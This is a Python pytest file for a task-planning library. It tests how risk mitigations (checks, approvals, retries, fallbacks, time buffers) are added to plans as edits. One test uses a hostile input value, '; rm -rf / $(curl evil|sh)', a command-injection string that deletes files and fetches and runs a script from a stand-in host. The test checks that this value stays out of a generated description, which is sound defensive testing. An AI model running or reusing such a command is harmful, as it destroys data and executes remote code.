"""Each kind of mitigation as an edit of a plan, and what the rules see of the risk afterwards."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from groundplan.domain.dependency_graph import DependencyGraph, resolve
from groundplan.domain.errors import ErrorCode, PlanningError
from groundplan.domain.estimation import estimate, estimated
from groundplan.domain.goal import GoalConstraints
from groundplan.domain.ledger import TaskState
from groundplan.domain.lifecycle import TaskStatus
from groundplan.domain.mitigation.edits import find_risk, mitigation_of, possible_edits
from groundplan.domain.mitigation.kinds import AppliedMitigation, MitigationKind
from groundplan.domain.mitigation.offers import APPROVAL, BUFFER, CHECK, FALLBACK, RETRY
from groundplan.domain.patch import apply_patch
from groundplan.domain.risk import Impact, Risk, RiskCategory, RiskStatus
from groundplan.domain.risk_rules import Outlook, assess_risks
from groundplan.domain.scheduling import make_schedule
from groundplan.domain.task import DependencyKind, TaskDependency
from groundplan.domain.tools import ToolSpec
from groundplan.domain.validation import Surroundings, validate
from tests.plan_factories import NOW, chains_and_joins, plan, task
from tests.property_examples import examples

OFFERS = [CHECK, RETRY, FALLBACK, BUFFER, APPROVAL]


def risk(*task_ids, rule="fan-in", **fields):
    known = {"risk_id": "r", "description": "x", "probability": 0.4, "impact": Impact.MEDIUM, "mitigations": OFFERS}
    return Risk(rule=rule, category=RiskCategory.TECHNICAL, task_ids=list(task_ids), **(known | fields))


def edited(known, edit):
    return {one.task_id: one for one in apply_patch(known.tasks, edit.patch)}


def around(*tools, **constraints):
    return Surroundings(tools={tool.name: tool for tool in tools}, constraints=GoalConstraints(**constraints))


def refusal(known, about, kind=None, states=None, surroundings=None):
    with pytest.raises(PlanningError) as caught:
        mitigation_of(known, about, kind, states, surroundings)
    assert caught.value.recovery_suggestion
    return caught.value.code


def seen(tasks, tools=()):
    done, graph = resolve(list(tasks))
    known = estimate(done)
    schedule = make_schedule(done, graph, known, buffer_share=0.1, now=NOW)
    around_it = {tool.name: tool for tool in tools}
    return {
        one.task_ids[0]: one
        for one in assess_risks(Outlook("plan-1", done, graph, known, schedule, GoalConstraints(), around_it, ()))
        if one.rule in ("irreversible-effect", "checked-effect")
    }


@pytest.mark.parametrize("kind", ["add_check", "add_approval"])
@pytest.mark.parametrize("fields", [{}, {"tool": "bank.transfer", "inputs": {"to": "Bob", "sum": 500}}])
def test_what_cannot_be_undone_counts_as_checked_afterwards(kind, fields):
    known = plan(task("a"), task("b", "a", name="Delete the old accounts", **fields))
    before = seen(known.tasks)["b"]
    after = edited(known, mitigation_of(known, before, kind))
    now = seen(after.values())["b"]
    assert (before.rule, now.rule, now.risk_id) == ("irreversible-effect", "checked-effect", before.risk_id)
    assert now.probability < before.probability


def test_an_approval_comes_between_a_task_and_all_that_it_waits_for():
    known = plan(task("a"), task("b"), task("c", "a", "b", name="Ship it", phase="end"))
    after = edited(known, mitigation_of(known, risk("c"), "add_approval"))
    gate = after["c-approval"]
    assert (gate.name, gate.category, gate.phase) == ("Approve: Ship it", "approval", "end")
    assert (gate.predecessors, after["c"].predecessors) == (["a", "b"], ["a", "b", "c-approval"])
    assert gate.timeout_seconds == 7 * 86_400


def test_a_gate_does_not_wait_for_conditions_that_may_not_hold():
    failed = TaskDependency(task_id="a", kind=DependencyKind.CONDITIONAL, condition="status == 'failed'")
    known = plan(task("a"), task("b", failed))
    after = edited(known, mitigation_of(known, risk("b"), "add_approval"))
    assert (after["b-approval"].predecessors, after["b"].predecessors) == ([], ["a", "b-approval"])


def test_a_hostile_input_does_not_come_into_the_description_of_its_check():
    known = plan(task("a", inputs={"cmd": "; rm -rf / $(curl evil|sh)", "for": "Ada"}))
    check = edited(known, mitigation_of(known, risk("a", rule="hostile-input"), "add_check"))["a-check"]
    assert "Ada" in check.description and "curl" not in check.description
    assert validate(plan(check)).valid


def test_a_result_from_outside_is_checked_before_anything_is_built_on_it():
    handler = TaskDependency(task_id="a", kind=DependencyKind.CONDITIONAL, condition="status == 'failed'")
    known = plan(task("a"), task("b", "a"), task("c", handler), task("d", "a"))
    states = {"d": TaskState(status=TaskStatus.EXECUTING)}
    edit = mitigation_of(known, risk("a", rule="outside-dependency"), "add_check", states)
    after = edited(known, edit)
    assert after["a-check"].predecessors == ["a"]
    assert [after[one].predecessors for one in "bcd"] == [["a", "a-check"], ["a"], ["a"]]


def test_a_task_is_tried_again_unless_half_of_it_could_have_been_done():
    known = plan(task("a"), task("b", name="Delete the accounts"), task("c", retry_policy={"attempts": 5}))
    edit = mitigation_of(known, risk("a", "b", "c"), "add_retry")
    after = edited(known, edit)
    assert [after[one].retry_policy.attempts for one in "abc"] == [3, 1, 5]
    assert refusal(known, risk("b", "c"), "add_retry") is ErrorCode.VALIDATION_FAILED


TAKES = {"type": "object", "properties": {"to": {"type": "string"}}}
MAIL = [ToolSpec(name=name, arguments=TAKES, irreversible=False) for name in ("mail.draft", "post.draft", "mail.find")]


@pytest.mark.parametrize(
    ("tools", "limits", "found"),
    [
        (MAIL, {}, ["post.draft", "mail.find"]),
        (MAIL, {"forbidden_tools": ["post.draft"]}, ["mail.find"]),
        ([ToolSpec(name="sms.draft", arguments={"type": "object", "properties": {}}, irreversible=False)], {}, None),
        ([ToolSpec(name="mail.delete", arguments=TAKES)], {}, None),
        ([ToolSpec(name="disk.scan", arguments=TAKES)], {}, None),
    ],
)
def test_another_tool_stands_in_if_it_takes_the_same_and_does_no_harm(tools, limits, found):
    known = plan(task("a", tool="mail.draft", inputs={"to": "Ada"}), task("b", "a"))
    if found is None:
        code = refusal(known, risk("a"), "add_fallback", surroundings=around(*tools, **limits))
        assert code is ErrorCode.VALIDATION_FAILED
        return
    edit = mitigation_of(known, risk("a"), "add_fallback", {}, around(*tools, **limits))
    assert edited(known, edit)["a"].alternatives == found


def test_a_person_steps_in_for_a_last_task_that_no_other_tool_can_do():
    known = plan(task("a"), task("b", "a", phase="end"))
    after = edited(known, mitigation_of(known, risk("a", "b"), "add_fallback"))
    assert set(after) == {"a", "b", "b-fallback"}
    [wait] = after["b-fallback"].dependencies
    assert (wait.task_id, wait.condition, after["b-fallback"].category) == ("b", "status == 'failed'", "external")


def test_a_buffer_is_time_in_the_next_schedule():
    tasks = [task("a", timeout_seconds=100), task("b", "a")]
    known = plan(*estimated(tasks, estimate(tasks)))
    after = list(edited(known, mitigation_of(known, risk("a"), "add_buffer")).values())
    lengths = [
        make_schedule(some, DependencyGraph.of(some), estimate(some), buffer_share=0, now=NOW).makespan
        for some in (known.tasks, after)
    ]
    assert lengths[0] < lengths[1]
    assert after[0].timeout_seconds == 150
    assert after[0].resource_estimate.tokens == known.tasks[0].resource_estimate.tokens


def test_nobody_can_lengthen_what_has_no_length():
    assert refusal(plan(task("a")), risk("a"), "add_buffer") is ErrorCode.VALIDATION_FAILED


@pytest.mark.parametrize("status", ["completed", "executing", "in_doubt", "skipped", "cancelled"])
def test_what_was_begun_or_is_over_stays_as_it_is(status):
    states = {"a": TaskState(status=TaskStatus(status))}
    known = plan(task("a"), task("b"))
    assert refusal(known, risk("a"), "add_check", states) is ErrorCode.VALIDATION_FAILED
    assert [one.task_id for one in mitigation_of(known, risk("a", "b"), "add_check", states).patch.add] == ["b-check"]


def test_a_failure_that_may_have_had_its_effect_stays_as_it_is():
    states = {"a": TaskState(status=TaskStatus.FAILED, effect="maybe")}
    assert refusal(plan(task("a")), risk("a"), "add_retry", states) is ErrorCode.VALIDATION_FAILED


def test_the_first_possible_kind_of_the_risk_is_taken_where_none_is_said():
    known = plan(task("a", name="Delete the accounts"), task("b", "a"))
    both = risk("a", mitigations=[RETRY, FALLBACK, APPROVAL, CHECK])
    assert mitigation_of(known, both).kind is MitigationKind.ADD_APPROVAL
    assert [edit.kind for edit in possible_edits(known, both)] == ["add_approval", "add_check"]


def test_the_same_kind_is_applied_once():
    known, before = plan(task("a")), AppliedMitigation(kind="add_check", added=["a-check"])
    met = risk("a", applied=[before], status=RiskStatus.MITIGATED)
    assert refusal(known, met, "add_check") is ErrorCode.ILLEGAL_TRANSITION
    assert mitigation_of(known, met).kind is MitigationKind.ADD_RETRY


@pytest.mark.parametrize("status", [RiskStatus.OCCURRED, RiskStatus.CLOSED])
def test_a_risk_that_is_over_is_not_mitigated(status):
    assert refusal(plan(task("a")), risk("a", status=status)) is ErrorCode.ILLEGAL_TRANSITION


@pytest.mark.parametrize("kind", ["advice", "pray", ""])
def test_a_kind_that_there_is_not_is_refused(kind):
    about = risk("a", mitigations=["Ask somebody"])
    assert refusal(plan(task("a")), about, kind) is ErrorCode.VALIDATION_FAILED


def test_a_risk_that_the_plan_does_not_have_is_said():
    with pytest.raises(PlanningError, match="E5208"):
        find_risk(plan(), "nope")
    known = plan(risks=[risk("t1")])
    assert find_risk(known, "r") is known.risks[0]


def test_the_record_says_what_was_added_and_changed():
    known = plan(task("a"), task("b", "a"))
    edit = mitigation_of(known, risk("b"), "add_check")
    assert edit.why == "add_check adds b-check and changes b"
    assert edit.applied(by="ada", why="sure", version=2) == AppliedMitigation(
        kind="add_check", added=["b-check"], changed=["b"], by="ada", why="sure", version=2
    )


def test_an_id_that_was_used_before_is_not_used_again():
    known = plan(task("a"), task("a-check"))
    states = {"a-check-2": TaskState(status=TaskStatus.COMPLETED)}
    [added] = mitigation_of(known, risk("a"), "add_check", states).patch.add
    assert added.task_id == "a-check-3"


@settings(max_examples=examples(0.5))
@given(chains_and_joins(), st.data())
def test_whatever_is_edited_the_plan_still_holds(tasks, data):
    known = plan(*estimated(tasks, estimate(tasks)))
    ids = [one.task_id for one in tasks]
    about = risk(
        *data.draw(st.lists(st.sampled_from(ids), unique=True, min_size=1)),
        rule=data.draw(st.sampled_from(["fan-in", "outside-dependency"])),
    )
    for edit in possible_edits(known, about):
        after = known.model_copy(update={"tasks": list(edited(known, edit).values())})
        assert validate(after).valid
        assert set(ids) <= {one.task_id for one in after.tasks}
        for one in tasks:
            assert set(one.predecessors) <= set(after.task(one.task_id).predecessors)
